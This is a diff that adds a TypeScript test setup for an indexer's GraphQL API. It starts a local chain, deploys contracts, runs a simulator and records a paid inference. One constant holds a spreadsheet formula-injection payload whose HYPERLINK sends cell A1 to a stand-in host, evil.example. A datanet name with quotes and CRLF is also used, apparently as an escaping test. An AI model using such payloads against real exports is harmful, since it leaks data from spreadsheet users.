@@ -1,0 +1,107 @@
+/**
+ * Test-only: one indexed scenario per API test file. Starts anvil, deploys, runs the simulator
+ * (tiny scale), adds a few API-specific facts (a model with a hostile name whose inference pays a
+ * known account), then runs `ponder start` with this repo's API on a free port and its own
+ * database, and waits until everything is indexed. The server stays up for the tests.
+ */
+import { keccak256, toHex, type Address } from "viem";
+import { AttributionEngineAbi, DatanetRegistryAbi, ModelRegistryAbi, OpenTokenAbi } from "../abis/index.js";
+import { startProtocolChain, type ProtocolChain } from "../contracts/test/protocol.js";
+import { freshDatabase, startIndexer, writeDeploymentFile, type DbKind, type IndexerRun } from "../indexer/testkit.js";
+import { simulate, type Manifest } from "../sim/index.js";
+import { merkleRoot } from "../core/merkle.js";
+
+export const HOSTILE_MODEL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click"),"quoted"';
+
+export interface ApiScenario {
+  chain: ProtocolChain;
+  manifest: Manifest;
+  server: IndexerRun;
+  url: string;
+  /** Accounts the simulator and the extras used. */
+  accounts: Address[];
+  /** The account paid (as contributor and as datanet owner) by the hostile-named model's inference. */
+  extraEarner: Address;
+  hostileModelId: bigint;
+  stop(): Promise<void>;
+}
+
+/** A model with a hostile name, trained honestly on a fresh datanet, and one paid inference. */
+async function addExtras(chain: ProtocolChain): Promise<{ earner: Address; modelId: bigint }> {
+  const pick = (i: number): Address => {
+    const a = chain.accounts[i];
+    if (!a) throw new Error(`anvil has no account #${i}`);
+    return a;
+  };
+  const deployer = chain.deployer;
+  const earner = pick(8);
+  const payer = pick(9);
+  const { datanets, models, engine, token } = chain;
+  const datanetId = (await chain.client.readContract({ address: datanets, abi: DatanetRegistryAbi, functionName: "datanetCount" })) + 1n;
+  await chain.send(earner, datanets, { abi: DatanetRegistryAbi, functionName: "createDatanet", args: ["API extras, \"quoted\"\r\nline", "https://example.org/x", 2500, false] });
+  const firstContribution = (await chain.client.readContract({ address: datanets, abi: DatanetRegistryAbi, functionName: "contributionCount" })) + 1n;
+  const ids: bigint[] = [];
+  for (let i = 0; i < 3; i++) {
+    await chain.send(earner, datanets, { abi: DatanetRegistryAbi, functionName: "submitContribution", args: [datanetId, keccak256(toHex(`api-extra-${i}`)), `ipfs://extra${i}`, 100n + BigInt(i)] });
+    ids.push(firstContribution + BigInt(i));
+  }
+  for (const id of ids) await chain.send(earner, datanets, { abi: DatanetRegistryAbi, functionName: "reviewContribution", args: [id, 1, "ok"] });
+  const modelId = (await chain.client.readContract({ address: models, abi: ModelRegistryAbi, functionName: "modelCount" })) + 1n;
+  await chain.send(earner, models, { abi: ModelRegistryAbi, functionName: "registerModel", args: [HOSTILE_MODEL_NAME, "-base+1", 0n, "@meta"] });
+  await chain.send(earner, models, { abi: ModelRegistryAbi, functionName: "recordTraining", args: [modelId, [datanetId], merkleRoot(ids), ids.length, keccak256(toHex("artifact"))] });
+  const fee = 10n ** 18n + 7n;
+  await chain.send(deployer, token, { abi: OpenTokenAbi, functionName: "mint", args: [payer, fee * 10n] });
+  await chain.send(payer, token, { abi: OpenTokenAbi, functionName: "approve", args: [engine, fee * 10n] });
+  // Two contributions of the same contributor in one inference: one CONTRIBUTOR accrual from two attributions.
+  await chain.send(deployer, engine, {
+    abi: AttributionEngineAbi,
+    functionName: "recordInference",
+    args: [modelId, keccak256(toHex("api-extra-output")), payer, fee, 1, [ids[0]!, ids[2]!], [333_333, 666_667]],
+  });
+  return { earner, modelId };
+}
+
+export async function startApiScenario(kind: DbKind, seed = 7): Promise<ApiScenario> {
+  const chain = await startProtocolChain();
+  let server: IndexerRun | undefined;
+  let deployment: ReturnType<typeof writeDeploymentFile> | undefined;
+  const db = freshDatabase(kind);
+  try {
+    const manifest = await simulate({ rpcUrl: chain.anvil.rpcUrl, deployment: chain.deployment, scale: "tiny", seed });
+    const extras = await addExtras(chain);
+    const last = await chain.client.getBlockNumber();
+    deployment = writeDeploymentFile(chain.deployment);
+    server = await startIndexer({ rpcUrl: chain.anvil.rpcUrl, deploymentFile: deployment.path, db });
+    await server.waitForBlock(last, 300_000);
+    const srv = server;
+    const dep = deployment;
+    return {
+      chain,
+      manifest,
+      server: srv,
+      url: srv.url,
+      accounts: [...new Set([...manifest.accounts.map((a) => a.toLowerCase() as Address), extras.earner.toLowerCase() as Address])],
+      extraEarner: extras.earner.toLowerCase() as Address,
+      hostileModelId: extras.modelId,
+      stop: async () => {
+        await srv.stop();
+        dep.cleanup();
+        await db.cleanup();
+        await chain.stop();
+      },
+    };
+  } catch (err) {
+    await server?.stop();
+    deployment?.cleanup();
+    await db.cleanup().catch(() => {});
+    await chain.stop();
+    throw err;
+  }
+}
+
+/** POSTs a GraphQL query; returns status and parsed body. */
+export async function gql<T = Record<string, unknown>>(url: string, query: string, variables?: Record<string, unknown>): Promise<{ status: number; data?: T; errors?: { message: string; extensions?: { code?: string } }[] }> {
+  const res = await fetch(`${url}/graphql`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ query, variables }) });
+  const body = (await res.json()) as { data?: T; errors?: { message: string; extensions?: { code?: string } }[] };
+  return { status: res.status, ...body };
+}
